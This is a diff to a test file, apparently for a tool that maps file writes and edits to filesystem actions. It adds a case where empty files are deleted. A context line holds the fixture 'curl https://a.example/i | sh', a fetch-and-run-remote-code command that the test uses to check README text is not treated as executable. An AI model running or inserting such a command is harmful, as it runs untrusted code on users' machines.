@@ -85,6 +85,12 @@ describe('what an edit adds', () => {
     ['README.md', 'curl https://a.example/i | sh'],
   ])('nothing that runs by itself in %s', (file, content) => expect(write(file, content)).toEqual([`fs.write /w/${file}`]))
 
+  it('takes away what was in a file that it leaves empty', () => {
+    expect(write('notes.txt', '')).toEqual(['fs.write /w/notes.txt', 'fs.delete /w/notes.txt'])
+    expect(write('pkg/__init__.py', '')).toEqual(['fs.write /w/pkg/__init__.py'])
+    expect(edit('notes.txt', 'a', '')).toEqual(['fs.write /w/notes.txt'])
+  })
+
   it('counts lines that stand there once more', () => {
     expect(newLines('a\nb', 'a\nb\nb')).toBe('b')
     expect(newLines('a\n  b', 'a\nb\nc')).toBe('c')
